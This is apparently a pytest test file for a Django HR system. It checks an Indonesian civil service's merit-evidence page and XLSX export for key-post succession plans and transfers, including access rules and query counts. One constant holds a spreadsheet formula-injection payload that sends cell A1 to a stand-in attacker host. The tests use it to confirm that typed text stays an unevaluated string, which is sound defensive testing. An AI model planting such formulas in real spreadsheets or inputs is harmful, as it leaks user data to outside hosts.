"""The merit evidence of talent-based placement (issue 20 point 8): per key post, who the succession plan
named and whom HR chose with the reason; per decided move into a key post, the box, the scores with the
dates of their sources, the rank in the pool, the plan's main candidate and the override with its reason.
A page and an XLSX (user text stays text); HR, the auditor and the regional head read the region, an
agency head no more than an employee; a fixed number of queries."""

from __future__ import annotations

import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from instansi.choices import PositionKind
from mutasi import eligibility
from mutasi.models import TransferRequest
from talenta.models import KeyPost
from talenta.services.grid import talent_grid_compute, talent_grid_start
from talenta.services.succession import succession_plan_compute, succession_plan_confirm
from tests.factories import PositionFactory, UserFactory
from tests.talenta.conftest import AS_OF

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _decided(world, employee, position, *, reason=""):
    """A transfer into `position` approved by the regional head, with the checklist stored as the
    workflow stores it (the overridden codes when HR approved over a failed rule)."""
    checklist = eligibility.check(employee=employee, destination=position)
    failed = [c.code for c in checklist.failed]
    return TransferRequest.objects.create(
        number=f"MUT-2026-{TransferRequest.objects.count() + 1:06d}",
        employee=employee,
        kind="rotation",
        origin_position=employee.position,
        origin_agency=employee.position.agency,
        destination_position=position,
        destination_agency=position.agency,
        reason="Rencana suksesi.",
        status="approved",
        decided_at=timezone.now(),
        override_reason=reason if failed else "",
        overridden_by=world.hr if failed else None,
        eligibility_snapshot={**checklist.snapshot(), "overridden": failed},
    )


@pytest.fixture
def evidence(world):
    head = world.person(
        golongan="IV/b", position=world.key_position.superior, user=UserFactory(username="kadinkes")
    )
    world.agency.head_position = world.key_position.superior
    world.agency.save()
    other_head = world.head_of(world.other_agency, "Kepala Dinas Sosial", "kadinsos")
    walikota_post = PositionFactory(
        agency=world.agency, special_role="regional_head", kind="jpt_utama", title="Walikota"
    )
    walikota = world.person(scores=None, position=walikota_post, user=UserFactory(username="walikota"))
    best = world.person("sangat_baik", "sangat_baik", (92, 88, 90), golongan="III/d")
    second = world.person("sangat_baik", "baik", (85, 80, 84), golongan="III/d")
    low = world.person("baik", "baik", (60, 60, 60), golongan="III/d", user=UserFactory(username="pegawai"))
    grid = talent_grid_compute(grid_id=talent_grid_start(actor=world.hr, region=world.region, as_of=AS_OF).pk)
    plan = succession_plan_compute(
        actor=world.hr, key_post=KeyPost.objects.create(position=world.key_position), grid=grid
    )
    succession_plan_confirm(actor=world.hr, plan_id=plan.pk, main_candidate_id=second.pk, reason=INJECTION)
    from instansi.models import Policy

    Policy.objects.filter(region=world.region).update(min_talent_box=5)
    move = _decided(world, low, world.key_position, reason="Pimpinan meminta; " + INJECTION)
    return {
        "grid": grid,
        "plan": plan,
        "best": best,
        "second": second,
        "low": low,
        "move": move,
        "users": {
            "kadinkes": head.user,
            "kadinsos": other_head.user,
            "walikota": walikota.user,
            "pegawai": low.user,
        },
    }


def test_the_page_traces_the_plan_and_the_move_with_scores_dates_rank_and_override(client, world, evidence):
    client.force_login(world.auditor)
    page = client.get("/mutasi/bukti-merit/")
    assert page.status_code == 200
    text = page.content.decode()
    plan = evidence["plan"]
    main = plan.candidates.get(role="main")
    assert main.employee == evidence["best"]
    assert world.key_position.title in text
    assert (
        evidence["best"].full_name in text and evidence["second"].full_name in text
    )  # system vs HR's choice
    assert "mengubah urutan sistem" in text
    assert "Peringkat 1 dari" in text
    assert "UPT Penilaian Kompetensi BKD Provinsi, 10 Januari 2025, berlaku sampai 10 Januari 2028" in text
    # The move: the talent rule as checked at the decision, the override and its reason.
    assert evidence["move"].number in text
    assert "Kotak 2 pada kotak talenta per 30 Juni 2026" in text
    assert "Kotak talenta dan peringkat suksesi" in text  # the overridden rule by name, not by code
    assert "Pimpinan meminta;" in text
    assert "talent_box" not in text.replace('title="talent_box"', "")


def test_the_xlsx_holds_the_same_evidence_and_keeps_typed_text_as_text(client, world, evidence):
    client.force_login(world.hr)
    response = client.get("/mutasi/bukti-merit/xlsx/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    plans = list(book["Rencana suksesi"].iter_rows(min_row=3, values_only=True))
    named = {row[8]: row for row in plans}  # by NIP
    plan = evidence["plan"]
    assert set(named) == {c.employee.nip for c in plan.candidates.filter(role__in=("main", "reserve"))} | {
        evidence["second"].nip
    }
    best = named[evidence["best"].nip]
    assert best[5] == "Kandidat utama" and best[6] == 1 and best[7] == plan.candidates.count()
    assert best[10] == 9  # box
    assert best[15] == "2025, 2024" and best[18] == "10 Januari 2025"
    assert "dipilih BKPSDM" in named[evidence["second"].nip][5]
    moves = list(book["Mutasi jabatan kunci"].iter_rows(min_row=2, values_only=True))
    assert len(moves) == TransferRequest.objects.filter(destination_position=world.key_position).count() == 1
    move = moves[0]
    assert move[0] == evidence["move"].number
    assert move[8] == evidence["second"].full_name  # the plan's main candidate as HR confirmed it
    assert move[11] == evidence["low"].nip and move[13] == 2  # NIP, box
    assert "Kotak talenta dan peringkat suksesi" in move[-3]
    # Typed text that looks like a formula is a string cell, never evaluated.
    sheet = book["Mutasi jabatan kunci"]
    reason_cell = sheet.cell(row=2, column=len(move) - 1)
    assert reason_cell.value == "Pimpinan meminta; " + INJECTION and reason_cell.data_type == "s"
    plan_sheet = book["Rencana suksesi"]
    reasons = [c for row in plan_sheet.iter_rows(min_row=3) for c in row if c.value == INJECTION]
    assert reasons and all(c.data_type == "s" for c in reasons)


@pytest.mark.parametrize(
    ("who", "status", "sees_plan"),
    [
        ("hr", 200, True),
        ("auditor", 200, True),
        ("walikota", 200, True),
        ("tpk", 200, True),  # the performance team reads succession plans
        # Agency heads read no succession pool (talenta.permissions.may_read_succession), so no evidence
        # naming its candidates either, even for a key post of their own agency.
        ("kadinkes", 403, False),
        ("kadinsos", 403, False),
        ("pegawai", 403, False),
    ],
)
def test_who_reads_the_merit_evidence(client, world, evidence, who, status, sees_plan):
    user = getattr(world, who, None) or evidence["users"][who]
    client.force_login(user)
    for path in ("/mutasi/bukti-merit/", "/mutasi/bukti-merit/xlsx/"):
        assert client.get(path).status_code == status
    if status == 200:
        text = client.get("/mutasi/bukti-merit/").content.decode()
        assert (evidence["move"].number in text) is sees_plan
        assert (evidence["best"].full_name in text) is sees_plan


def test_an_agency_head_cannot_ask_for_another_agency_and_bad_filters_are_400(client, world, evidence):
    client.force_login(evidence["users"]["kadinsos"])
    assert client.get(f"/mutasi/bukti-merit/?opd={world.agency.pk}").status_code == 403
    client.force_login(world.hr)
    assert client.get("/mutasi/bukti-merit/?opd=999999").status_code == 404
    assert client.get("/mutasi/bukti-merit/?tahun=dua").status_code == 400
    assert client.get(f"/mutasi/bukti-merit/?tahun={timezone.now().year - 1}").status_code == 200
    page = client.get(f"/mutasi/bukti-merit/?tahun={timezone.now().year - 1}").content.decode()
    assert evidence["move"].number not in page  # decided this year, not last


def test_the_page_runs_a_fixed_number_of_queries_whatever_the_number_of_plans_and_moves(
    client, world, evidence
):
    client.force_login(world.auditor)
    client.get("/mutasi/bukti-merit/")
    with CaptureQueriesContext(connection) as small:
        assert client.get("/mutasi/bukti-merit/").status_code == 200
    with CaptureQueriesContext(connection) as small_export:
        assert client.get("/mutasi/bukti-merit/xlsx/").status_code == 200
    for i in range(3):
        post = PositionFactory(
            agency=world.agency,
            title=f"Kepala Bidang {i}",
            kind=PositionKind.ADMINISTRATOR,
            superior=world.key_position.superior,
            grade=12,
        )
        succession_plan_compute(
            actor=world.hr, key_post=KeyPost.objects.create(position=post), grid=evidence["grid"]
        )
        _decided(world, world.person("baik", "baik", (80, 80, 80), golongan="III/d"), post, reason="Uji.")
    with CaptureQueriesContext(connection) as large:
        text = client.get("/mutasi/bukti-merit/").content.decode()
    assert "Kepala Bidang 2" in text
    assert len(large.captured_queries) == len(small.captured_queries)
    with CaptureQueriesContext(connection) as export:
        client.get("/mutasi/bukti-merit/xlsx/")
    assert len(export.captured_queries) == len(small_export.captured_queries)
